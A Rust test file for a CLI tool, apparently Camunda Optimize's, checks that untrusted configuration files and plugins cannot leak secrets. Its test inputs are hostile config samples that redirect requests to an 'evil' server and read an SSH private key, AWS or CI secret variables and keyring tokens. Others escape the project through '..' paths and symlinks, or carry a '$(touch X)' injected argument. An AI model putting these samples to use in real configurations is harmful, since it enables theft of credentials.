//! A foreign configuration file cannot send a secret elsewhere.

use optimize_sandbox::{Canary, Entry, Sandbox};

use crate::harness::{Ran, Server, User, check};

/// What the author of a foreign file runs.
fn evil() -> Server {
    Server::new()
}

/// Runs with a foreign file; nothing may leave for the server of its author.
fn refused(user: &User, evil: &Server, file: &str, line: &str) -> Ran {
    user.file("project/p.toml", file);
    let ran = user.types(&format!("--config project/p.toml {line}"));
    assert_eq!(ran.code, Some(3), "{file}\n{ran}");
    assert!(ran.stderr.contains("it is not trusted"), "{file}\n{ran}");
    assert!(evil.journal().is_empty(), "{file}\n{ran}");
    ran
}

/// The six ways of the security review, and further settings.
#[test]
fn a_foreign_file_sends_nothing_of_the_user_anywhere() {
    let (evil, own) = (evil(), Server::new());
    let user = User::new().with("AWS_SECRET_ACCESS_KEY", "AWSSECRETcanary").with("CI_SECRET", "CISECRETcanary");
    user.file(".ssh/id_ed25519", "-----BEGIN PRIVATE KEY-----\n");
    let helper = user.script("helper", "touch \"$HOME/STARTED\"");
    user.configure(&format!(
        "[profiles.prod]\nbase_url = '{0}'\n[profiles.prod.auth]\ntoken_url = '{1}'\nclient_id = '{2}'\nclient_secret = '{3}'\n\
         [profiles.helped]\nbase_url = '{0}'\n[profiles.helped.auth]\ncommand = ['{4}']\n",
        own.base_url(),
        own.token_url(),
        own.client_id(),
        own.client_secret(),
        helper.display()
    ));
    let (base_url, token_url) = (evil.base_url(), evil.token_url());
    let key = user.path(".ssh/id_ed25519");
    let lines = [
        format!("default_profile = 'prod'\nbase_url = '{base_url}'"),
        format!(
            "base_url = '{base_url}'\nauth.token_url = '{token_url}'\nauth.client_id = 'x'\nauth.client_secret = {{ file = '{}' }}",
            key.display()
        ),
        format!("base_url = '{base_url}'\nauth.token = {{ env = 'AWS_SECRET_ACCESS_KEY' }}"),
        format!(
            "base_url = '{base_url}'\nauth.token_url = '{token_url}'\nauth.client_id = 'x'\nauth.client_secret = {{ env = 'CI_SECRET' }}"
        ),
        format!("default_profile = 'helped'\nauth.token_url = '{token_url}'"),
        format!("default_profile = 'helped'\nbase_url = '{base_url}'"),
        format!("base_url = '{base_url}'\nauth.token = {{ keyring = 'optimize' }}"),
        format!("base_url = '{base_url}'\nauth.token_file = '{}'", key.display()),
        format!("base_url = '{base_url}'\nauth.token_file = '../.ssh/id_ed25519'"),
        format!("base_url = '{base_url}'\nauth.command = ['{}']", helper.display()),
        format!("base_url = '{base_url}'\nauth.sources = [{{ command = ['{}'] }}]", helper.display()),
        format!("base_url = '{base_url}'\nauth.token = {{ command = ['{}'] }}", helper.display()),
        format!("default_profile = 'prod'\nauth.issuer = '{}'", evil.issuer()),
        format!("default_profile = 'prod'\npreset = 'self-managed'\nrealm_url = '{base_url}realms/x'"),
        format!("default_profile = 'prod'\ntoken_cache = '{}'", user.path("mine").display()),
        "default_profile = 'prod'\nca_file = 'ca.pem'".to_owned(),
        "default_profile = 'prod'\nallow_insecure_http = true".to_owned(),
        "default_profile = 'prod'\npreset = 'saas'\nregion = 'x'\ncluster_id = 'y'".to_owned(),
        "default_profile = 'prod'\nauth.client_auth = 'none'".to_owned(),
        format!("default_profile = 'x'\n[profiles.x]\nbase_url = '{base_url}'\nauth.token = {{ env = 'CI_SECRET' }}"),
    ];
    std::fs::create_dir(user.path("mine")).unwrap();
    for file in &lines {
        refused(&user, &evil, file, "report list --collection c");
    }
    // What a variable or a flag brings along is the user's as well.
    let with_token = User::new().with("OPTIMIZE_TOKEN", "STATICSECRETcanary");
    refused(&with_token, &evil, &format!("base_url = '{base_url}'"), "report list --collection c");
    refused(&with_token, &evil, &format!("base_url = '{base_url}'\nauth.token = 'own'"), "report list --collection c");
    let plain = User::new();
    plain.file("secret", "s");
    let with_id = format!("base_url = '{base_url}'\nauth.token_url = '{token_url}'\nauth.client_id = 'x'");
    refused(&plain, &evil, &with_id, "--client-secret-file secret report list --collection c");
    let named = User::new().with("OPTIMIZE_TOKEN", "t").with("OPTIMIZE_CONFIG", "named.toml");
    named.file("named.toml", &format!("base_url = '{base_url}'"));
    assert_eq!(named.types("report list --collection c").code, Some(3));
    assert!(evil.journal().is_empty() && own.journal().is_empty());
    assert!(!user.path("STARTED").exists());
    assert_eq!(crate::harness::mode(&user.path("mine")) & 0o055, 0o055, "the directory stays as it was");
}

#[test]
fn what_leads_nowhere_needs_no_decision() {
    let server = Server::new();
    let user = User::of(&server);
    user.file("p.toml", "output = 'json'\ntimeout = '20s'\n[auth]\naudience = 'optimize.camunda.io'\n");
    let ran = user.types("--config p.toml report list --collection claims");
    assert!(ran.code == Some(0) && ran.stdout.starts_with('['), "{ran}");
    // So does the name of a profile that is the user's own.
    let user = User::new();
    user.configure(&format!(
        "[profiles.prod]\nbase_url = '{}'\nauth.token = '{}'",
        server.base_url(),
        server.static_token()
    ));
    user.file("p.toml", "default_profile = 'prod'");
    assert_eq!(user.types("--config p.toml report list --collection claims").code, Some(0));
}

#[test]
fn a_file_that_comes_with_its_own_server_and_secret_needs_no_decision() {
    let server = Server::new();
    let user = User::new();
    let whole = |secret: &str| format!("base_url = '{}'\nauth.token = {secret}", server.base_url());
    let code = |text: &str| {
        user.file("project/p.toml", text);
        user.types("--config project/p.toml report list --collection claims").code
    };
    user.file("project/token", server.static_token());
    user.file("project/deep/token", server.static_token());
    user.file("token", server.static_token());
    assert_eq!(code(&whole(&format!("'{}'", server.static_token()))), Some(0));
    assert_eq!(code(&whole("{ file = 'token' }")), Some(0));
    assert_eq!(code(&whole("{ file = 'deep/token' }")), Some(0));
    assert_eq!(code(&whole("{ file = '../token' }")), Some(3), "it climbs out");
    assert_eq!(code(&whole("{ file = 'deep/../../token' }")), Some(3));
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("../token", user.path("project/link")).unwrap();
        assert_eq!(code(&whole("{ file = 'link' }")), Some(3), "it leads out");
        std::os::unix::fs::symlink("../..", user.path("project/deep/up")).unwrap();
        assert_eq!(code(&whole("{ file = 'deep/up/token' }")), Some(3));
    }
}

#[test]
fn a_file_is_trusted_as_it_is_and_no_longer_once_it_changes() {
    let server = Server::new();
    let user = User::new().with("CI_SECRET", server.client_secret());
    let text = format!(
        "base_url = '{}'\n[auth]\ntoken_url = '{}'\nclient_id = 'optimize-sandbox'\nclient_secret = {{ env = 'CI_SECRET' }}\n\
         [profiles.other]\ntoken_cache = '/var/x y'\n[profiles.other.auth]\ncommand = ['/bin/helper', '$(touch X)']\nenv_allow = ['MINE']\n",
        server.base_url(),
        server.token_url()
    );
    user.file("p.toml", &text);
    check!(user.types("--config p.toml report list --collection claims"), @"
    exit 3
    --- stdout
    --- stderr
    error: the configuration file p.toml: it is not trusted, and base_url (p.toml:1:12) decides where requests and secrets go
    hint: see what it does, and trust it: optimize config trust p.toml; in a pipeline pass --trust-config
    ");
    check!(user.types("config trust p.toml"), @r#"
    exit 2
    --- stdout
    --- stderr
    The configuration file [HOME]/p.toml
      - sends requests, with the credentials, to http://127.0.0.1:PORT (line 1)
      - sends the client id and secret to http://127.0.0.1:PORT/oauth/token (line 3)
      - uses the client id optimize-sandbox (line 4)
      - takes the client secret from the environment variable CI_SECRET (line 5)
      - with the profile `other`: keeps tokens in /var/x y (line 7)
      - with the profile `other`: runs the program /bin/helper '$(touch X)' (line 9)
      - with the profile `other`: gives the credential helper the environment variables MINE (line 10)
    SHA-256 [DIGITS]
    error: cannot ask "Trust this file as it is now?": standard input or error is not a terminal, or --no-input is set
    hint: pass --yes if you are sure
    "#);
    let ran = user.types("config trust p.toml --yes");
    assert_eq!((ran.code, ran.stdout.as_str()), (Some(0), ""), "{ran}");
    let list = "--config p.toml report list --collection claims";
    assert_eq!(user.types(list).code, Some(0));
    assert!(user.types("config trust --list").stdout.contains("\"file\":\"[HOME]/p.toml\""));
    check!(user.types("config trust p.toml --yes").stderr, @"[HOME]/p.toml is trusted already");
    // A copy elsewhere is another file: what it names beside itself is something else there.
    user.file("copy/p.toml", &text);
    assert_eq!(user.types("--config copy/p.toml report list --collection claims").code, Some(3));
    user.file("p.toml", &format!("{text}# changed\n"));
    let ran = user.types(list);
    assert!(ran.code == Some(3) && ran.stderr.contains("it has changed since you trusted it"), "{ran}");
    user.file("p.toml", &text);
    assert_eq!(user.types(list).code, Some(0));
    assert_eq!(user.types("config trust p.toml --revoke").code, Some(0));
    assert_eq!(user.types(list).code, Some(3));
    check!(user.types("config trust p.toml --revoke").stderr, @"
    error: failed to remove the trust in [HOME]/p.toml: it is not trusted
    hint: list what is trusted: optimize config trust --list
    ");
    // In pipelines.
    assert_eq!(user.types(&format!("--trust-config {list}")).code, Some(0));
}

#[test]
fn a_question_is_answered_at_the_terminal() {
    let user = User::new();
    user.file("p.toml", "base_url = 'https://optimize.example'\nca_file = 'ca.pem'\n");
    let mut terminal = user.at_a_terminal("config trust p.toml");
    terminal.expect("trusts the certificate authorities in the file");
    terminal.expect("Trust this file as it is now? [y/N]");
    terminal.say("n");
    assert_eq!(terminal.end().0, Some(130));
    assert!(!user.path(".local/share/optimize/trusted.json").exists());
    let mut terminal = user.at_a_terminal("config trust p.toml");
    terminal.expect("[y/N]");
    terminal.say("y");
    assert_eq!(terminal.end().0, Some(0));
    assert!(user.read(".local/share/optimize/trusted.json").contains("p.toml"));
}

/// What was sent in the bodies and headers that a server has seen.
fn holds(journal: &[Entry], canary: &Canary) -> bool {
    canary.find(format!("{journal:?}").as_bytes()).is_some()
}

#[test]
fn programs_get_no_variable_that_holds_a_secret() {
    let (secret, password) = (Canary::new(), Canary::new());
    let server = Server::start(Sandbox::builder().client_secret(secret.secret()));
    let user = User::new()
        .with("MY_SECRET", secret.secret())
        .with("OTHER_SECRET", secret.secret())
        .with("CHAINED", secret.secret())
        .with("HTTPS_PROXY", &format!("http://user:{}@127.0.0.1:1", password.secret()))
        .with("npm_config_proxy", &format!("http://user:{}@127.0.0.1:1", password.secret()))
        .with("HTTP_PROXY", "http://127.0.0.1:1")
        .with("PLAIN", "kept");
    let path = format!("{}:/usr/bin:/bin", user.path("bin").display());
    let user = user.with("PATH", &path);
    let show = user.script("show", "env > \"$HOME/seen\"\nexit 3");
    user.script("bin/optimize-env", "env > \"$HOME/seen\"");
    let configuration = format!(
        "base_url = '{}'\n[auth]\ntoken_url = '{}'\nclient_id = 'optimize-sandbox'\nclient_secret = {{ env = 'MY_SECRET' }}\n\
         [profiles.other.auth]\ntoken = {{ env = 'OTHER_SECRET' }}\n\
         [profiles.chain.auth]\nsources = [{{ token = {{ env = 'CHAINED' }} }}]\n\
         [profiles.program.auth]\ntoken = {{ command = ['{1}'] }}\n\
         [profiles.helper.auth]\ncommand = ['{1}']\nenv_allow = ['PLAIN']\n\
         [profiles.greedy.auth]\ncommand = ['{1}']\nenv_allow = ['MY_SECRET']\n\
         [profiles.proxied.auth]\ncommand = ['{1}']\nenv_allow = ['HTTPS_PROXY']\n",
        server.base_url(),
        show.display()
    );
    user.configure(&configuration.replacen(
        &format!("'{}'\nclient_id", show.display()),
        &format!("'{}'\nclient_id", server.token_url()),
        1,
    ));
    let seen = |line: &str| {
        let _ = std::fs::remove_file(user.path("seen"));
        let ran = user.types(line);
        let seen = std::fs::read_to_string(user.path("seen")).unwrap_or_else(|_| panic!("{line}: {ran}"));
        assert_eq!((secret.find(seen.as_bytes()), password.find(seen.as_bytes())), (None, None), "{line}: {seen}");
        seen
    };
    let plugin = seen("env");
    assert!(plugin.contains("PLAIN=kept") && plugin.contains("HTTP_PROXY=http://127.0.0.1:1"), "{plugin}");
    assert!(
        !plugin.contains("MY_SECRET") && !plugin.contains("OTHER_SECRET") && !plugin.contains("CHAINED"),
        "{plugin}"
    );
    seen("--profile other env");
    seen("--profile program auth token");
    assert!(seen("--profile helper auth token").contains("PLAIN=kept"));
    for (profile, name) in [("greedy", "MY_SECRET"), ("proxied", "HTTPS_PROXY")] {
        let ran = user.types(&format!("--profile {profile} auth token"));
        assert!(
            ran.code == Some(3) && ran.stderr.contains(&format!("give {name} to a helper: it holds a secret")),
            "{ran}"
        );
    }
    // The pager of a long table.
    let pager = user.script("pager", "env > \"$HOME/seen\"; cat > /dev/null");
    let reader = user.with("PAGER", pager.to_str().unwrap()).with("TERM", "xterm");
    assert_eq!(reader.at_a_terminal("report list --collection claims").end().0, Some(0));
    let seen = reader.read("seen");
    assert_eq!((secret.find(seen.as_bytes()), password.find(seen.as_bytes())), (None, None), "{seen}");
    assert!(!holds(&server.journal(), &password));
}

#[test]
fn a_plugin_cannot_choose_whose_credentials_go_where() {
    let (evil, own) = (evil(), Server::new());
    let user = User::new();
    let path = format!("{}:/usr/bin:/bin", user.path("bin").display());
    let user = user.with("PATH", &path);
    user.configure(&format!("base_url = '{}'\nauth.token = '{}'", own.base_url(), own.static_token()));
    user.file("evil.toml", &format!("base_url = '{}'", evil.base_url()));
    for arguments in [
        format!("--base-url {} api GET /api/readyz", evil.base_url()),
        "--config evil.toml api GET /api/public/collection".to_owned(),
        "--config evil.toml --trust-config api GET /api/public/collection".to_owned(),
        "--profile other api GET /api/public/collection".to_owned(),
        "config trust evil.toml --yes".to_owned(),
        "config trust evil.toml --revoke".to_owned(),
        "plugin trust thief --token".to_owned(),
    ] {
        user.script("bin/optimize-thief", &format!("\"$OPTIMIZE_CLI\" {arguments}"));
        let ran = user.types("thief");
        assert_eq!(ran.code, Some(4), "{arguments}: {ran}");
        assert!(ran.stderr.contains("only a person may"), "{arguments}: {ran}");
    }
    assert!(evil.journal().is_empty());
    user.script("bin/optimize-thief", "\"$OPTIMIZE_CLI\" report list --collection claims");
    assert_eq!(user.types("thief").code, Some(0));
}
